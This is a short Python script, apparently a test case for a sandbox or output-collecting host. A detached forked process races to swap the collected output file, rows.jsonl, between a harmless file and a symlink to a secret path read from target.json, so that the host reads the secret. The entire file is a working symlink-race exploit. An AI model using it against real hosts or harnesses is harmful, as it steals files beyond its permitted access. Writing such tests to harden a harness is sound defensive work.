"""Swap the output for a link to a secret file and back, over and over, while the host collects it."""

import contextlib
import json
import os
import time
from pathlib import Path

TARGET = json.loads(Path("target.json").read_bytes())

Path("honest").write_text("{}\n")
os.symlink(TARGET["secret"], "link")
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 256)
    end = time.monotonic() + 3
    while time.monotonic() < end:
        for source in ("honest", "link"):
            with contextlib.suppress(OSError):
                os.link(source, "next", follow_symlinks=False)
                os.replace("next", "rows.jsonl")
    os._exit(0)
time.sleep(0.1)
print("blocked: unless the host read the secret", flush=True)
